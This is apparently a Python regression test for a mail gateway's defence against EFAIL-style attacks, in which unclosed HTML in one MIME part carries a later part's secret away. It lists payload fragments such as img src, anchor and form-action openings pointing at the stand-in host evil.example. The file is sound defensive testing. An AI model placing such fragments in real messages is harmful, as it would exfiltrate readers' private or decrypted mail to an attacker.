"""V-85, EFAIL: parts are glued into one page, and what the first leaves open carries the second one away."""

from html.parser import HTMLParser

import pytest

from gateway.cli.mailpage import page
from gateway.mail.parse import parse

SECRET = "SECRET-words"
OPENINGS = [
    ('<img src="https://evil.example/', '">'),
    ("<a href='https://evil.example/?", "'>here</a>"),
    ("<a href=https://evil.example/?", ">here</a>"),
    ('<p title="', '">'),
    ("<!--", "-->"),
    ("<style>", "</style>"),
    ("<textarea>", "</textarea>"),
    ("<form action=https://evil.example/><input name=x value='", "'>"),
    ("<svg><title>", "</title></svg>"),
    ("<div style='display:none", "'>"),
    ("<div style='display:none'>", "</div>"),
    ("a\f<a href='https://evil.example/?", "'>"),
]


class Shown(HTMLParser):
    """The words outside of tags, and those inside."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.words, self.inside, self.hidden, self.depth = "", "", 0, 0
        self.feed(document)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside += repr(attrs)
        if tag == "div":
            self.depth += 1
            self.hidden = self.hidden or (self.depth if "display:none" in str(attrs) else 0)

    def handle_endtag(self, tag: str) -> None:
        if tag == "div":
            self.hidden = 0 if self.hidden == self.depth else self.hidden
            self.depth -= 1

    def handle_data(self, data: str) -> None:
        self.words += "" if self.hidden else data


def mail(*parts: tuple[str, str]) -> bytes:
    body = "".join(f"--b\r\nContent-Type: {kind}\r\n\r\n{content}\r\n" for kind, content in parts)
    return f'Content-Type: multipart/mixed; boundary="b"\r\n\r\n{body}--b--\r\n'.encode()


@pytest.mark.parametrize(("opening", "closing"), OPENINGS)
@pytest.mark.parametrize("kind", ["text/html", "text/plain"])
def test_nothing_is_carried_away(kind: str, opening: str, closing: str) -> None:
    raw = mail(
        ("text/html", f"<p>Before</p>{opening}"), (kind, f"<b>{SECRET}</b>"), ("text/html", f"{closing}<p>Behind</p>")
    )
    message = parse(raw)
    assert SECRET in message.text
    if kind == "text/plain":
        assert SECRET not in (message.html or "")
        return
    found = Shown(page(message, raw))
    assert SECRET in found.words
    assert SECRET not in found.inside
    assert "('src'" not in found.inside


def test_the_page_loads_nothing() -> None:
    raw = mail(("text/html", OPENINGS[0][0]), ("text/html", OPENINGS[0][1]))
    assert "default-src 'none'" in page(parse(raw), raw)
